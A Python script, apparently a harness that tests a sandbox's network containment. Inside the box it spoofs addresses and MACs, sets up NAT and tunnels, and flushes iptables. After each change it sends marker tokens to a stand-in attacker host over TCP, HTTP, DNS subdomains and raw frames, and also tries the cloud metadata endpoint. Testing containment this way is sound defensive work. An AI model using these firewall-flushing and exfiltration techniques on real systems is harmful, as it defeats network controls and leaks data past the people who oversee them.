"""Ways out for whoever is the daemon of a sandbox: it changes its network, and then tries. After each change every try sends a token of
its own, `<prefix>-<change>-<try>`, to somebody it must not reach. Arguments: prefix, the proxy's address, its port, the box's own
address, the port of its API, a neighbour's address; then every how-manieth change is made."""
import re, socket, struct, subprocess, sys, threading, time

prefix, proxy, proxy_port, box, api_port, neighbour, step = sys.argv[1:8]
attacker, name_server = '198.51.100.66', '192.0.2.53'
socket.setdefaulttimeout(1)


def sh(line):
    return subprocess.run(['sh', '-c', line], capture_output=True, text=True, check=False, timeout=20).stdout


own = re.search(r'inet (\S+)/(\d+)', sh('ip -4 addr show dev eth0'))
mine, bits = own.group(1), own.group(2)
gateway = re.search(r'default via (\S+)', sh('ip route')).group(1)
resolvers = open('/etc/resolv.conf').read()
mac = re.search(r'link/ether (\S+)', sh('ip link show eth0')).group(1)
# Also what would keep the host from hearing how it went.
back = (f'tc qdisc del dev eth0 root; tc qdisc del dev eth0 ingress; ip rule del table 7; ip route del 192.0.2.53; ip route del {attacker}; '
        f'ip link set eth0 address {mac} mtu 1500 up; ip addr flush dev eth0; ip addr add {mine}/{bits} dev eth0; '
        f'ip route replace default via {gateway}; ip neigh flush all; for i in /.hutch/bin/iptables iptables; do for t in nat mangle raw filter; '
        'do $i -t $t -F; done; done; for l in d0 v0 b0 t0 m0 g0 w0; do ip link del $l; done')

# What is changed first; $G is the gateway, $N the neighbour, $A the attacker, $B the box.
changes = {
    'nothing': 'true',
    'a-neighbours-address': 'ip addr add $N/32 dev eth0; ip route replace default via $G src $N',
    'only-a-neighbours-address': 'ip addr flush dev eth0; ip addr add $N/31 dev eth0; ip route replace $G dev eth0; ip route replace default via $G onlink dev eth0',
    'the-gateways-address': 'ip addr add $G/32 dev eth0; ip route replace default dev eth0',
    'the-boxs-address': 'ip addr add $B/32 dev eth0; ip route replace default via $G src $B',
    'a-public-address': 'ip addr add 203.0.113.99/32 dev eth0; ip route replace default via $G src 203.0.113.99',
    'another-mac': 'ip link set eth0 down; ip link set eth0 address 02:00:00:00:00:99; ip link set eth0 up; ip route replace default via $G',
    'no-gateway': 'ip route replace default dev eth0 scope link',
    'the-neighbour-as-gateway': 'ip route replace $N dev eth0; ip route replace default via $N onlink dev eth0',
    'the-box-as-gateway': 'ip route replace $B dev eth0; ip route replace default via $B onlink dev eth0',
    'routes-by-mark': 'ip rule add fwmark 7 table 7; ip route add default via $G table 7; iptables -t mangle -A OUTPUT -j MARK --set-mark 7',
    'source-nat': 'iptables -t nat -A POSTROUTING -o eth0 -j SNAT --to-source $N',
    'masquerade': 'sysctl -w net.ipv4.ip_forward=1; iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE --to-ports 1024-1030',
    'destination-nat': 'iptables -t nat -A OUTPUT -d $A -p tcp -j DNAT --to-destination $G:$P',
    'the-box-by-nat': 'iptables -t nat -A OUTPUT -d $A -p tcp -j DNAT --to-destination $B:$P',
    'a-vlan': 'ip link add link eth0 name v0 type vlan id 5; ip link set v0 up; ip addr add $N/32 dev v0; ip route replace default dev v0',
    'a-macvlan': 'ip link add m0 link eth0 type macvlan mode bridge; ip link set m0 up; ip addr add $N/31 dev m0; ip route replace default dev m0',
    'a-bridge': 'ip link add b0 type bridge; ip link set eth0 master b0; ip link set b0 up; ip addr add $M/31 dev b0; ip route replace default via $G',
    'ipip': 'ip link add t0 type ipip remote $A local $M; ip link set t0 up; ip route replace default dev t0',
    'gre': 'ip link add g0 type gre remote $A local $M; ip link set g0 up; ip route replace default dev g0',
    'vxlan': 'ip link add v0 type vxlan id 5 remote $A dstport 4789 dev eth0; ip link set v0 up; ip addr add $N/24 dev v0; ip route replace default dev v0',
    'wireguard': 'ip link add w0 type wireguard; ip link set w0 up; ip route replace default dev w0',
    'ipv6': 'for f in /proc/sys/net/ipv6/conf/*/disable_ipv6; do echo 0 > $f; done; ip -6 addr add 2001:db8::2/64 dev eth0; ip -6 route replace default via fe80::1 dev eth0',
    'redirects': 'for f in /proc/sys/net/ipv4/conf/*/accept_source_route /proc/sys/net/ipv4/conf/*/accept_local; do echo 1 > $f; done; ip route replace $A via $N onlink dev eth0',
    'a-name-server': 'ip route replace 192.0.2.53 via $B onlink dev eth0; echo nameserver 192.0.2.53 > /etc/resolv.conf',
    'small-packets': 'ip link set eth0 mtu 68; ip route replace default via $G mtu 68',
    'no-firewall': 'for i in /.hutch/bin/iptables iptables; do for t in nat mangle raw filter; do $i -t $t -F; $i -t $t -X; done; $i -P OUTPUT ACCEPT; $i -P FORWARD ACCEPT; done',
    'queued': 'tc qdisc add dev eth0 root netem delay 1ms; tc qdisc add dev eth0 ingress; tc filter add dev eth0 parent ffff: protocol ip u32 match u32 0 0 action mirred egress redirect dev eth0',
}


def get(token, host):
    return f'GET /{token} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n'.encode()


def tcp(host, port, data):
    with socket.create_connection((host, port), 1) as connection:
        connection.sendall(data)
        connection.recv(1024)


def udp(host, port, data):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.sendto(data, (host, port))


def question(name):
    labels = b''.join(bytes([len(label)]) + label.encode() for label in name.split('.'))
    return struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + b'\0' + struct.pack('!HH', 1, 1)


def checksum(data):
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def frame(token):
    """Past the kernel's routes and firewall: straight to whoever is at the other end of the link."""
    payload = struct.pack('!HHHH', 9000, 9000, 8 + len(token), 0) + token.encode()
    for source in (mine, neighbour, box, '203.0.113.99'):
        head = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(payload), 9, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(attacker))
        head = head[:10] + struct.pack('!H', checksum(head)) + head[12:]
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as connection:
            connection.bind(('eth0', 0x0800))
            for to in (b'\xff' * 6, peer):
                connection.send(to + b'\2\0\0\0\0\1' + b'\x08\0' + head + payload)


tries = {
    'tcp': lambda token: tcp(attacker, 7000, token.encode()),
    'http': lambda token: tcp(attacker, 80, get(token, 'open.example')),
    'udp': lambda token: udp(attacker, 9000, token.encode()),
    'dns': lambda token: udp(name_server, 53, question(f'{token}.attacker.example')),
    'private': lambda token: tcp('10.0.0.5', 80, get(token, '10.0.0.5')),
    'metadata': lambda token: tcp('169.254.169.254', 80, get(token, '169.254.169.254')),
    'api': lambda token: tcp(box, int(api_port), get(token, box)),
    'proxy': lambda token: tcp(proxy, int(proxy_port), f'GET http://attacker.example/{token} HTTP/1.1\r\nHost: attacker.example\r\n\r\n'.encode()),
    'frame': frame,
}
sh(f'ping -c 1 -W 1 {gateway}')
found = re.search(r'lladdr (\S+)', sh(f'ip neigh show {gateway}'))
peer = bytes.fromhex(found.group(1).replace(':', '')) if found else b'\xff' * 6


def attempt(name, function):
    try:
        function(f'{prefix}-{name}')
    except BaseException:
        # Refused, timed out, not permitted: all the same to whoever looks at what arrived.
        pass


chosen = list(changes.items())[::int(step)]
for change, line in chosen:
    for name, value in {'$G': gateway, '$N': neighbour, '$A': attacker, '$B': box, '$M': mine, '$P': api_port}.items():
        line = line.replace(name, value)
    sh(line)
    threads = [threading.Thread(target=attempt, args=(f'{change}-{name}', function), daemon=True) for name, function in tries.items()]
    for thread in threads:
        thread.start()
    # All together: a SYN that is to leave has left twice by then.
    end = time.monotonic() + 2
    for thread in threads:
        thread.join(max(0, end - time.monotonic()))
    sh(back)
    open('/etc/resolv.conf', 'w').write(resolvers)
print(len(chosen) * len(tries))
